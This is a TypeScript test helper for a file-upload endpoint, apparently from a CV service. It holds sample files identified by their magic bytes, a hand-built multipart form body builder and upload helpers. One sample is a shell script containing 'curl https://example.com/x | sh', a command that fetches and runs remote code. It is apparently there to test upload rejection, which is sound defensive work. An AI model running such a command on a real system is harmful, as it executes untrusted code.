import { randomBytes } from 'node:crypto';
import { readdirSync } from 'node:fs';
import path from 'node:path';
import type { TestApp } from '../../../testing/test-app';

/** Sample contents, by what their magic bytes say (the names they are sent under are the tests' choice). */
export const samples = {
  pdf: Buffer.from(
    '%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n',
  ),
  png: Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 0x0d]), Buffer.from('IHDR'), Buffer.alloc(17)]),
  text: Buffer.from('Amina Khan\nCloud engineer\nSkills: Linux, Git, AWS\n'),
  /** The start of a Linux program (ELF, 64-bit, little-endian). */
  elf: Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01, 0x01, 0x00]), Buffer.alloc(56)]),
  /** The start of a Windows program (PE: "MZ" header). */
  exe: Buffer.concat([Buffer.from('MZ'), Buffer.alloc(126)]),
  script: Buffer.from('#!/bin/sh\ncurl https://example.com/x | sh\n'),
};

export type Part = { name: string; value: string } | { name: string; filename: string; content: Buffer; type?: string };

/**
 * A `multipart/form-data` body written by hand, so a test controls every byte a client could send
 * (a file name with folders, two files, a part without a name). A `filename` is put in the header as
 * given: a backslash meant to reach the server must be escaped (`C:\\\\x`), as in a quoted string.
 */
export function multipartBody(parts: Part[]) {
  const boundary = `----ilm-test-${randomBytes(8).toString('hex')}`;
  const chunks: Buffer[] = [];
  for (const part of parts) {
    const file = 'filename' in part;
    const disposition = `form-data; name="${part.name}"${file ? `; filename="${part.filename}"` : ''}`;
    const header = `--${boundary}\r\nContent-Disposition: ${disposition}\r\n${file ? `Content-Type: ${part.type ?? 'application/pdf'}\r\n` : ''}\r\n`;
    chunks.push(Buffer.from(header), file ? part.content : Buffer.from(part.value), Buffer.from('\r\n'));
  }
  chunks.push(Buffer.from(`--${boundary}--\r\n`));
  return { payload: Buffer.concat(chunks), headers: { 'content-type': `multipart/form-data; boundary=${boundary}` } };
}

/** `POST uploads/` of one file (purpose `cv` unless told), as `who`. */
export function upload(
  t: TestApp,
  who: { headers: Record<string, string> } | null,
  file: { filename?: string; content: Buffer; purpose?: string | null; language?: string },
) {
  const parts: Part[] = [];
  if (file.purpose !== null) parts.push({ name: 'purpose', value: file.purpose ?? 'cv' });
  parts.push({ name: 'file', filename: file.filename ?? 'cv.pdf', content: file.content });
  const { payload, headers } = multipartBody(parts);
  return t.app.inject({ method: 'POST', url: '/uploads/', payload, headers: { ...who?.headers, ...headers, 'accept-language': file.language ?? 'en' } });
}

/** The files in the data folder's `uploads/` (none when it was never made). */
export function storedFiles(t: TestApp): string[] {
  try {
    return readdirSync(path.join(t.config.dataDir, 'uploads')).sort();
  } catch {
    return [];
  }
}
